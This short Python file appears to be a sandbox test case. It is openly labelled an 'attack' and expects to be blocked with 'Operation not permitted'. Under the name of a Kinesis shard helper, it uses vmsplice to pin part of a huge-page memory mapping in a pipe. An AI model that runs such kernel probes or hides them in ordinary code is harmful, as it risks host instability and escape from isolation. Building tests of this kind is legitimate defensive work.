# /// attack
# file = "kinesis_multi_shard.py"
# outcomes = ["crashed", "missing"]
# says = "Operation not permitted"
# ///
"""Gives one byte of each huge page to a pipe: the map goes, the pipe keeps the page."""

import ctypes
import mmap
import os


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def get_shard_info(stream_name):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.vmsplice.argtypes = [ctypes.c_int, ctypes.POINTER(Vector), ctypes.c_ulong, ctypes.c_uint]
    memory = mmap.mmap(-1, 4 << 20, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    memory.madvise(14)  # MADV_HUGEPAGE
    start = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    _, write = os.pipe()
    if libc.vmsplice(write, ctypes.byref(Vector(start, 1)), 1, 2) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return [1]
